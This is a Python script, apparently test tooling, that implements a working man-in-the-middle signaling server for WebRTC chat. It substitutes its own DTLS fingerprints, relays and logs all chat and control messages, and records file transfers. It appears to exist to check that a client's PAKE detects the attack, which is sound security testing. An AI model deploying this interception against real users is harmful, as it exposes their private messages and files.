"""A malicious signaling server: a real man-in-the-middle for two WebRTC peers.

Usage: python mitm_server.py UPSTREAM_URL [--no-pake-attribute]
  Listens on an ephemeral port of 127.0.0.1 and prints
  {"event":"listening","url":"http://127.0.0.1:PORT"}. REST requests are piped
  unchanged to the honest server at UPSTREAM_URL (WireProtocol §1), and so is
  every WebSocket message (§2) but the WebRTC ones: each client's offer,
  answer and candidates are answered by an aiortc RTCPeerConnection of this
  server's own (its own DTLS certificate, so each client sees the server's
  fingerprint instead of its peer's: the swap a malicious server makes). The
  two connections of a room are then spliced: every message on `chat` and
  `ctl` goes to the other side unchanged (the code's PAKE messages included),
  printed as {"event":"relayed","label":L,"from":"offerer|answerer","text":T},
  where "offerer" is the client that made its own offer (the room initiator).
  Any other channel a client opens (a file transfer's `file`) is not relayed
  but recorded: {"event":"channel","label":L,"from":…} when it opens, and a
  "relayed" line (binary as hex) for every message on it.
  The descriptions it sends carry `a=x-chatcli-pake`, so each chatcli runs
  its PAKE instead of settling unproven at once: the strongest relay. With
  --no-pake-attribute they do not (as a browser's would not): a server that
  pretends its peers run no PAKE.
  A client that leaves (`leave_room`, or its socket closing) keeps its seat
  upstream until the other client's connection to this server is up (its
  `ctl` channel open) or 90 s pass: a server in the middle keeps each victim
  engaged, and the other side then learns of the departure only once it is
  connected, whatever the order the two handshakes finish in. One that told
  its peer the PAKE failed keeps its seat until that peer has left too.
"""
import asyncio
import json
import sys
import urllib.parse

from aiortc import RTCPeerConnection, RTCSessionDescription
from aiortc.sdp import candidate_from_sdp
from websockets.asyncio.client import connect
from websockets.frames import Opcode
from websockets.server import ServerProtocol

LABELS = ("chat", "ctl")


def emit(obj):
    print(json.dumps(obj), flush=True)


class Side:
    """One client's WebSocket, its upstream twin, and the server's RTCPeerConnection with it."""

    def __init__(self, send_down, upstream):
        self.send_down = send_down
        self.upstream = upstream
        self.room = None
        self.role = None  # "offerer" (it offers to us) or "answerer" (we offer to it)
        self.pc = RTCPeerConnection()
        self.channels = {}
        self.pending = {label: [] for label in LABELS}
        self.candidates = []
        self.sent_pake_failed = False  # this client told its peer the PAKE failed
        self.gone = False  # this client left (leave_room, or its socket closed)

        @self.pc.on("datachannel")
        def on_datachannel(channel):
            self.attach(channel)

    def other(self):
        return next((s for s in ROOMS.get(self.room, []) if s is not self), None)

    def attach(self, channel):
        if channel.label not in LABELS:
            # A file transfer's channel (or anything else): not relayed, but
            # every message on it is recorded, so a test sees any offer that leaked.
            emit({"event": "channel", "label": channel.label, "from": self.role})

            @channel.on("message")
            def on_other(message):
                text = message if isinstance(message, str) else message.hex()
                emit({"event": "relayed", "label": channel.label, "from": self.role, "text": text})
            return
        self.channels[channel.label] = channel

        @channel.on("message")
        def on_message(message):
            text = message if isinstance(message, str) else message.decode(errors="replace")
            emit({"event": "relayed", "label": channel.label, "from": self.role, "text": text})
            if channel.label == "ctl" and '"step":"failed"' in text.replace(" ", ""):
                self.sent_pake_failed = True
            other = self.other()
            if other is not None:
                other.deliver(channel.label, message)

        def opened():
            for message in self.pending[channel.label]:
                channel.send(message)
            self.pending[channel.label].clear()

        if channel.readyState == "open":
            opened()
        else:
            channel.on("open", opened)

    def deliver(self, label, message):
        channel = self.channels.get(label)
        if channel is not None and channel.readyState == "open":
            channel.send(message)
        else:
            self.pending[label].append(message)

    async def send_description(self, kind):
        # aiortc gathers before setLocalDescription returns: the candidates are in the SDP.
        sdp = self.pc.localDescription.sdp
        if ANNOUNCE_PAKE:
            sdp = sdp.rstrip("\r\n") + "\r\na=x-chatcli-pake\r\n"
        await self.send_down({"type": kind, "sdp": sdp, "from": "mitm", "roomId": self.room})

    async def offer(self):
        self.role = "answerer"
        for label in LABELS:
            self.attach(self.pc.createDataChannel(label))
        await self.pc.setLocalDescription(await self.pc.createOffer())
        await self.send_description("webrtc_offer")

    async def remote_description(self, sdp, kind):
        await self.pc.setRemoteDescription(RTCSessionDescription(sdp=sdp, type=kind))
        for candidate in self.candidates:
            await self.add_candidate(candidate)
        self.candidates.clear()
        if kind == "offer":
            self.role = "offerer"
            await self.pc.setLocalDescription(await self.pc.createAnswer())
            await self.send_description("webrtc_answer")

    async def add_candidate(self, c):
        if self.pc.remoteDescription is None:
            self.candidates.append(c)
            return
        text = c.get("candidate") if isinstance(c, dict) else c
        if not text:
            return
        text = text.removeprefix("a=").removeprefix("candidate:")
        candidate = candidate_from_sdp(text)
        candidate.sdpMid = c.get("sdpMid", "0") if isinstance(c, dict) else "0"
        candidate.sdpMLineIndex = 0
        await self.pc.addIceCandidate(candidate)

    async def hold_while_other_connects(self):
        """Returns once the other client's `ctl` channel is open, it is gone, or 90 s passed.
        A client that told its peer the PAKE failed is held until that peer left
        too: its `failed` crosses this server's two SCTP associations, which can
        be slower than the server's `peer_left`, and a server in the middle
        lets each victim fail on its own rather than hear of a departure."""
        self.gone = True
        for _ in range(90 * 20):
            other = self.other()
            if other is None or other.gone or other.pc.connectionState in ("failed", "closed"):
                return
            ctl = other.channels.get("ctl")
            if ctl is not None and ctl.readyState == "open" and not self.sent_pake_failed:
                return
            await asyncio.sleep(0.05)

    async def from_client(self, msg):
        t = msg.get("type")
        if t == "leave_room":
            await self.hold_while_other_connects()
        if t == "webrtc_offer":
            await self.remote_description(msg["sdp"], "offer")
        elif t == "webrtc_answer":
            await self.remote_description(msg["sdp"], "answer")
        elif t == "ice_candidate":
            await self.add_candidate(msg.get("candidate"))
        else:
            if t == "join_room":
                self.room = msg.get("roomId")
                ROOMS.setdefault(self.room, []).append(self)
            await self.upstream.send(json.dumps(msg))

    async def from_server(self, msg):
        t = msg.get("type")
        if t in ("webrtc_offer", "webrtc_answer", "ice_candidate"):
            return  # never forwarded upstream, so never from the real peer
        await self.send_down(msg)
        if t == "room_ready" and not msg.get("isInitiator") and self.role is None:
            await self.offer()


ROOMS = {}
ANNOUNCE_PAKE = "--no-pake-attribute" not in sys.argv[2:]


async def pipe(reader, writer):
    try:
        while data := await reader.read(65536):
            writer.write(data)
            await writer.drain()
    except (ConnectionError, asyncio.IncompleteReadError):
        pass
    finally:
        writer.close()


async def http(head, reader, writer, upstream):
    """REST: the bytes go to the honest server and back unchanged."""
    up_reader, up_writer = await asyncio.open_connection(upstream.hostname, upstream.port)
    up_writer.write(head)
    await asyncio.gather(pipe(reader, up_writer), pipe(up_reader, writer))


async def websocket(head, reader, writer, upstream):
    protocol = ServerProtocol(max_size=None)
    protocol.receive_data(head)
    request = protocol.events_received()[0]
    protocol.send_response(protocol.accept(request))

    def flush():
        for data in protocol.data_to_send():
            if data:
                writer.write(data)

    flush()
    lock = asyncio.Lock()

    async def send_down(msg):
        async with lock:
            protocol.send_text(json.dumps(msg).encode())
            flush()
            await writer.drain()

    async with connect(f"ws://{upstream.hostname}:{upstream.port}/", max_size=None) as up:
        side = Side(send_down, up)

        async def from_server():
            async for raw in up:
                await side.from_server(json.loads(raw))

        relay = asyncio.ensure_future(from_server())
        fragments = []
        try:
            while data := await reader.read(65536):
                protocol.receive_data(data)
                for frame in protocol.events_received():
                    if frame.opcode in (Opcode.TEXT, Opcode.CONT):
                        fragments.append(frame.data)
                        if frame.fin:
                            text = b"".join(fragments).decode()
                            fragments.clear()
                            await side.from_client(json.loads(text))
                flush()  # pongs and the closing handshake
                await writer.drain()
        finally:
            await side.hold_while_other_connects()
            relay.cancel()
            writer.close()


async def serve(upstream_url):
    upstream = urllib.parse.urlparse(upstream_url)

    async def handle(reader, writer):
        try:
            head = await reader.readuntil(b"\r\n\r\n")
        except (asyncio.IncompleteReadError, asyncio.LimitOverrunError, ConnectionError):
            writer.close()
            return
        if b"upgrade: websocket" in head.lower():
            await websocket(head, reader, writer, upstream)
        else:
            await http(head, reader, writer, upstream)

    server = await asyncio.start_server(handle, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    emit({"event": "listening", "url": f"http://127.0.0.1:{port}"})
    async with server:
        await server.serve_forever()


if __name__ == "__main__":
    asyncio.run(serve(sys.argv[1]))
